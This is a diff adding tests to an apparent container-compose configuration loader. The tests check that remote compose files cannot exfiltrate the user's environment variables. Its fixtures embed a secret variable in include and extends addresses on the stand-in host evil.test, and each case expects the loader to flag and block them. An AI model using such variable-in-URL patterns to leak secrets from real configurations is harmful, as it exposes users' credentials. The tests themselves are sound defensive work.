@@ -303,3 +303,48 @@ describe('a remote file reads nothing of this machine beyond its folder', () => 
     ).toEqual([]);
   });
 });
+
+describe('a remote file sends no variable of the user to another machine', () => {
+  const environment = { SECRET: 'hunter2', EVIL: 'http://evil.test/l.git', SCHEME: 'oci' };
+  const extending = (file: string) => `services: {web: {extends: {file: "${file}", service: web}}}\n`;
+
+  test.each([
+    ['an include', 'include: ["http://evil.test/l-${SECRET}.git"]\n'],
+    ['an artifact to include', 'include: ["oci://evil.test/l-$SECRET:1"]\n'],
+    ['an include with a default', 'include: ["http://evil.test/l-${SECRET:-none}.git"]\n'],
+    ['a list of an include', 'include: [{path: [more.yaml, "http://evil.test/${SECRET:+a}.git"]}]\n'],
+    ['the path of an include', 'include: [{path: "git@evil.test:${SECRET}.git"}]\n'],
+    ['a variable that is an address', 'include: ["${EVIL}"]\n'],
+    ['a scheme', 'include: ["${SCHEME}://evil.test/l:1"]\n'],
+    ['a file to extend', extending('http://evil.test/ext-${SECRET}.git')],
+    ['a file to extend of another file', extending('more.yaml')],
+    ['an address of an included file', 'include: [more.yaml]\n'],
+  ])('%s', async (_, text) => {
+    const found = await complaints(
+      {
+        '/cache/d1/compose.yaml': text,
+        '/cache/d1/more.yaml': extending('http://evil.test/ext-${SECRET}.git'),
+      },
+      { files: [ARTIFACT], environment },
+    );
+
+    expect(found).toEqual([
+      expect.stringMatching(/(?:more|compose)\.yaml:\d+:\d+ remote-strays .* has a variable/),
+    ]);
+    expect(found.join()).not.toContain('hunter2');
+    expect(asked).toEqual([`${ARTIFACT} for undefined`]);
+  });
+
+  test('paths within its folder, and files of the user, may have variables', async () => {
+    const both = await load(
+      {
+        '/cache/d1/compose.yaml': 'include: ["${SECRET}.yaml"]\n',
+        '/cache/d1/hunter2.yaml': web(''),
+        'mine.yaml': 'include: ["${SCHEME}://example.test/shop/app:1"]\n',
+      },
+      { files: ['mine.yaml'], environment },
+    );
+
+    expect([...both.services.keys()]).toEqual(['web']);
+  });
+});
